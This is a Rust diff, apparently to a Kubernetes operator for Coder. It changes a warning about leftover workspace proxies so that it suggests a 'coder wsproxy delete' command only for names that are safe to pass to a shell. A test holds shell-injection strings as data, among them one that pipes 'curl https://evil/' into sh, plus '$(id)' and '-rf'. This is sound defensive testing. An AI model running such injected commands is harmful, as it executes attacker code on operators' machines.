@@ -4,6 +4,7 @@ use super::reasons::Reason;
 use super::registration::cause::Cause;
 use super::registration::steps::Left;
 use super::registration::work::Done;
+use crate::controller::attached::commands::is_plain;
 use crate::foreign::Foreign;
 use crate::kubernetes::events::{EventDraft, Severity};
 
@@ -35,17 +36,29 @@ pub(super) fn of_done(done: &Done) -> EventDraft {
     draft(severity, reason, note)
 }
 
-/// What there is to tell of a registration that stays in coderd.
+/// What there is to tell of a registration that stays in coderd. A command is suggested only for one that the operator recorded,
+/// under a name that a shell takes as it stands: whoever may write a status would else have others run what they like.
 pub(super) fn of_left(left: &Left) -> EventDraft {
     let name = clean(&left.name);
     // The object that could tell where is often gone.
-    let place = match left.deployment.as_deref().filter(|deployment| !deployment.is_empty()) {
-        Some(deployment) => format!("the coderd with deployment id {}", clean(deployment)),
-        None => "coderd".to_owned(),
+    let place = |deployment: &str| match deployment {
+        "" => "coderd".to_owned(),
+        deployment => format!("the coderd with deployment id {}", clean(deployment)),
     };
-    let note = format!(
-        "workspace proxy {name} was left in {place}; if nobody uses it, run coder wsproxy delete {name}"
-    );
+    let note = match left.deployment.as_deref() {
+        None => format!(
+            "the operator cannot prove that it made workspace proxy {name}; if coderd has it, it was left there. Find out whose \
+             it is before you delete it"
+        ),
+        Some(deployment) if is_plain(&left.name) => format!(
+            "workspace proxy {name} was left in {}; if nobody uses it, run coder wsproxy delete {name}",
+            place(deployment)
+        ),
+        Some(deployment) => format!(
+            "workspace proxy {name} was left in {}; if nobody uses it, delete it there",
+            place(deployment)
+        ),
+    };
     draft(Severity::Warning, Reason::ProxyLeftBehind, note)
 }
 
@@ -80,6 +93,22 @@ mod tests {
         assert_eq!(left.severity, Severity::Warning);
         assert!(left.note.contains("coder wsproxy delete eu"), "{}", left.note);
         assert_eq!(of_done(&Done::Registered("eu".to_owned())).severity, Severity::Normal);
+    }
+
+    #[test]
+    fn nobody_is_told_to_run_a_name_that_somebody_chose() {
+        let told = |name: &str, deployment: Option<&str>| {
+            of_left(&Left { name: name.to_owned(), deployment: deployment.map(str::to_owned) }).note
+        };
+        for name in ["x; curl https://evil/|sh", "$(id)", "a b", "-rf", "", "a'b", "a`id`", "é", "a\nb"] {
+            let note = told(name, Some("deployment-1"));
+            assert!(!note.contains("coder wsproxy") && note.ends_with("delete it there"), "{note}");
+        }
+        let long = told(&"x".repeat(5000), Some("deployment-1"));
+        assert!(long.len() < 500 && long.ends_with("delete it there"), "{long}");
+        let unproven = told("victim", None);
+        assert!(unproven.contains("workspace proxy victim "), "{unproven}");
+        assert!(!unproven.contains("coder wsproxy"), "a status alone has nobody delete a proxy: {unproven}");
     }
 
     #[test]
